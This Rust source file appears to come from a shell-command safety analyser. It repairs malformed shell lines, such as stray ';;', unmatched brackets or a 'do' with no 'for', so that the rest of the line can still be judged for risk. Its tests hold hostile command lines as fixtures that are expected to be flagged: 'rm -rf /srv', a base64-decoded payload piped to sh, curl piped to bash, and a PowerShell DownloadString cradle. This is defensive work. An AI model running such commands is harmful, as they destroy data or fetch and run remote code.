//! Lines that every shell refuses: what is left of one when what it stumbles over is taken away.
//!
//! `ls ;;`, `| wc`, `cat <`, `select count(*) from t`, `fi`: mistyped, half typed or meant for another program. Nothing of them runs, but a
//! shell with another grammar might run a part; so the rest is judged like any line, with its pipes and redirections in place.

/// The text with blanks, or a `;`, in place of operators without a command, redirections without a target, brackets without their
/// other half and the ends of what was never begun. It is as long as the text, so places in it stay. `None` if there is nothing to take away,
/// or if more stands in it than words, quotes and operators.
pub(super) fn mended(text: &str) -> Option<String> {
    if text.len() > MAX_TEXT || DEEP.iter().chain(&FOREIGN).any(|deep| text.contains(deep)) {
        return None;
    }
    let tokens = tokens(text)?;
    let said = |word: &str| tokens.iter().any(|token| token.kind == Kind::Word && token.of(text) == word);
    if said("case") {
        return None;
    }
    let mut mender =
        Mender { out: text.as_bytes().to_vec(), changed: false, fresh: true, open: Vec::new(), heads: (0, 0) };
    let mut before = 0;
    let mut target = false;
    for (at, token) in tokens.iter().enumerate() {
        let next = tokens.get(at + 1);
        let touches = before == token.start && at > 0;
        before = token.end;
        if std::mem::take(&mut target) {
            mender.fresh = false;
            continue;
        }
        match token.kind {
            Kind::Operator => mender.operator(token, text),
            Kind::Redirect => match next.filter(|next| next.kind == Kind::Word) {
                Some(_) => target = true,
                None => mender.blank(token),
            },
            Kind::Open => {
                let called = touches && next.is_some_and(|next| next.kind == Kind::Close && next.start == token.end);
                // The head of a function, whose body comes with the next line.
                if let (true, Some(close), None) = (called, next, tokens.get(at + 2)) {
                    mender.blank(token);
                    mender.blank(close);
                    break;
                }
                mender.opens(token, called);
            }
            Kind::Close => mender.closes(token),
            Kind::Word => mender.word(token, text, next, &said),
        }
    }
    let mended = String::from_utf8(mender.out).ok()?;
    mender.changed.then_some(mended)
}

/// Whether nothing in a text that no shell takes stands for a program that another shell would find: no variable, and no expansion that is
/// closed. fish takes a backtick for a letter and `;;` for `;`. `fish`: fish runs the text, and what stands behind a parenthesis there
/// (`echo (date) $f`) is a word of the command before it.
pub(super) fn names_no_variable(text: &str, fish: bool) -> bool {
    let plain = |(at, _): (usize, &str)| {
        let next = text.get(at + 1..).and_then(|rest| rest.chars().next());
        next.is_none_or(|c| matches!(c, '(' | '{' | ' ' | '"' | '\''))
            || fish && text.get(..at).is_some_and(|before| before.ends_with(' ') && before.trim_end().ends_with(')'))
    };
    let closed = |open: &str, close: char| text.contains(open) && text.contains(close);
    text.match_indices('$').all(plain) && !closed("$(", ')') && !closed("${", '}') && text.matches('`').count() < 2
}

struct Mender {
    out: Vec<u8>,
    changed: bool,
    /// Whether a command begins here.
    fresh: bool,
    /// The parentheses that are open: whether each was kept.
    open: Vec<bool>,
    /// Loops that have no `do` yet, and conditions without their `then`.
    heads: (usize, usize),
}

impl Mender {
    fn put(&mut self, token: &Token, with: u8) {
        for (at, byte) in self.out.iter_mut().enumerate().take(token.end).skip(token.start) {
            *byte = if at == token.start { with } else { b' ' };
        }
        self.changed = true;
    }

    fn blank(&mut self, token: &Token) {
        self.put(token, b' ');
    }

    /// Ends the command before it, if there is one.
    fn ends(&mut self, token: &Token) {
        self.put(token, if self.fresh { b' ' } else { b';' });
        self.fresh = true;
    }

    fn operator(&mut self, token: &Token, text: &str) {
        match token.of(text) {
            _ if self.fresh => self.blank(token),
            ";;" | ";&" | ";;&" | ";;;" => self.put(token, b';'),
            _ => {}
        }
        self.fresh = true;
    }

    /// `called`: it opens and closes behind a word.
    fn opens(&mut self, token: &Token, called: bool) {
        self.open.push(called || self.fresh);
        if !called && !self.fresh {
            self.ends(token);
        }
    }

    fn closes(&mut self, token: &Token) {
        match self.open.pop() {
            Some(true) => self.fresh = false,
            Some(false) | None => self.ends(token),
        }
    }

    fn word(&mut self, token: &Token, text: &str, next: Option<&Token>, said: &dyn Fn(&str) -> bool) {
        let word = token.of(text);
        let begun = |openers: &[&str]| openers.iter().any(|opener| said(opener));
        let stray = match word {
            "then" | "else" | "elif" | "fi" => !begun(&["if"]),
            "do" | "done" => !begun(&["for", "while", "until", "select", "repeat", "foreach"]),
            "esac" => true,
            "}" => !begun(&["{"]) && !text.contains('{'),
            "]]" => !begun(&["[["]),
            "!" => next.is_none_or(|next| next.kind != Kind::Word),
            _ => false,
        };
        if self.fresh && stray {
            return self.blank(token);
        }
        let head = match word {
            "for" | "while" | "until" | "if" | "elif" if self.fresh => {
                *if matches!(word, "if" | "elif") { &mut self.heads.1 } else { &mut self.heads.0 } += 1;
                None
            }
            "do" => Some(&mut self.heads.0),
            "then" => Some(&mut self.heads.1),
            _ => None,
        };
        if let Some(open) = head.filter(|open| **open > 0) {
            *open -= 1;
            // `for f in * do`: the word before it ends the head.
            if !self.fresh
                && text.as_bytes().get(token.start.wrapping_sub(1)).is_some_and(|b| matches!(b, b' ' | b'\t'))
            {
                self.put(&Token { start: token.start - 1, end: token.start, ..*token }, b';');
            }
            self.fresh = true;
            return;
        }
        if self.fresh && word == "[[" && !said("]]") {
            self.put(token, b'[');
        } else if word.len() > 1 && word.ends_with('}') && !word.contains('{') {
            let last = Token { start: token.end - 1, ..*token };
            self.put(&last, b'.');
        }
        self.fresh = false;
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Word,
    /// `;`, `&`, `|` and what is made of them.
    Operator,
    /// `<`, `>` and what is made of them.
    Redirect,
    Open,
    Close,
}

#[derive(Debug, Clone, Copy)]
struct Token {
    kind: Kind,
    start: usize,
    end: usize,
}

impl Token {
    fn of<'t>(&self, text: &'t str) -> &'t str {
        text.get(self.start..self.end).unwrap_or_default()
    }
}

/// The tokens of a line; none if a quote in it is open.
fn tokens(text: &str) -> Option<Vec<Token>> {
    let bytes = text.as_bytes();
    let run = |from: usize, of: &[u8]| from + bytes.iter().skip(from).take_while(|byte| of.contains(byte)).count();
    let mut tokens = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let start = at;
        let kind = match byte {
            b' ' | b'\t' => {
                at += 1;
                continue;
            }
            b'#' => break,
            b'(' => Kind::Open,
            b')' => Kind::Close,
            b'&' if bytes.get(at + 1) == Some(&b'>') => Kind::Redirect,
            b';' | b'&' | b'|' => Kind::Operator,
            b'<' | b'>' => Kind::Redirect,
            _ => Kind::Word,
        };
        at = match kind {
            Kind::Open | Kind::Close => at + 1,
            Kind::Operator if byte == b';' => run(at, b";&"),
            Kind::Operator => run(at, &[byte, b'&']).min(at + 2),
            Kind::Redirect => run(at, b"<>&|"),
            Kind::Word => word_end(bytes, at)?,
        };
        tokens.push(Token { kind, start, end: at });
    }
    Some(tokens)
}

/// Where a word ends that begins there; none if a quote in it does not end.
fn word_end(bytes: &[u8], from: usize) -> Option<usize> {
    let mut at = from;
    while let Some(&byte) = bytes.get(at) {
        at = match byte {
            b' ' | b'\t' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
            b'\\' => at + 2,
            b'\'' => at + 2 + bytes.iter().skip(at + 1).position(|&b| b == b'\'')?,
            b'"' => {
                let mut end = at + 1;
                while *bytes.get(end)? != b'"' {
                    end += if bytes.get(end) == Some(&b'\\') { 2 } else { 1 };
                }
                end + 1
            }
            _ => at + 1,
        };
    }
    Some(at.min(bytes.len()))
}

/// What makes a text more than words, quotes and operators, or its brackets more than brackets.
const DEEP: [&str; 15] = ["\n", "\r", "`", "$(", "${", "<(", ">(", "=(", "((", "@(", "!(", "+(", "?(", "$'", "<<-"];

/// What a line of PowerShell looks like, whose brackets are no mistakes.
const FOREIGN: [&str; 5] = ["New-Object", "Invoke-", "[System.", "[Net.", "iex "];

/// Bytes of a line that somebody mistypes.
const MAX_TEXT: usize = 512;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::command::{Context, analyse};
    use crate::model::Severity;

    #[test]
    fn what_a_shell_stumbles_over_is_taken_away_and_the_rest_stays_in_its_place() {
        for (line, want) in [
            ("ls ;;", "ls ; "),
            (";;", "  "),
            ("| wc", "  wc"),
            ("&& ls", "   ls"),
            ("ls | | wc", "ls |   wc"),
            ("cat <", "cat  "),
            ("ls )", "ls ;"),
            (")", " "),
            ("fi; ls", "    ls"),
            ("[[ -f x", "[  -f x"),
            ("f()", "f  "),
            ("select count(*) from t;", "select count;*; from t;"),
            ("echo a,b}", "echo a,b."),
            ("!", " "),
            ("for f in a b do wc $f; done", "for f in a b;do wc $f; done"),
            ("for f in a do; wc $f; done", "for f in a;do  wc $f; done"),
            ("while true do ls; done", "while true;do ls; done"),
            ("if [ -f x ] then ls; fi", "if [ -f x ];then ls; fi"),
        ] {
            assert_eq!(mended(line).as_deref(), Some(want), "{line}");
        }
        for line in
            ["ls", "ls; wc", "a && b", "x=$(ls ;;", "case x in a) b ;; esac", "echo 'a", "f() { ls; }", "cat <<E ;;\nE"]
        {
            assert_eq!(mended(line), None, "{line}");
        }
    }

    #[test]
    fn another_shells_brackets_are_no_mistakes() {
        assert_eq!(mended("x = (New-Object Net.WebClient).DownloadString('http://x.example/a') )"), None);
    }

    #[test]
    fn a_line_that_no_shell_takes_is_judged_by_the_rest_of_it() {
        let held = |line: &str| analyse(line, &Context::PROMPT).effects.iter().any(|e| e.severity >= Severity::Medium);
        for line in [
            "ls ;;",
            ";",
            "ls`",
            "`",
            "$(ls",
            "}",
            "done",
            "ls >",
            "db.users.find()",
            "$?",
            "^[[A^[[A",
            "for f in *.log do wc -l $f; done",
        ] {
            assert!(!held(line), "{line}");
        }
        for line in [
            "rm -rf /srv ;;",
            "| rm -rf /srv",
            "echo cm0gLXJmIC9zcnYK | base64 -d | sh ;;",
            "curl -s https://x.example/a | bash ;;",
            "ls ) rm -rf /srv",
            "echo a,b} | sh; reboot",
            "$x -rf /srv ;;",
            "$x -rf /srv `",
            "$(echo rm) -rf /srv `",
            "eval \"$x\" ;;",
            "for f in *.log do rm -rf /srv; done",
            "if [ -f x ] then rm -rf /srv; fi",
        ] {
            assert!(held(line), "{line}");
        }
    }
}
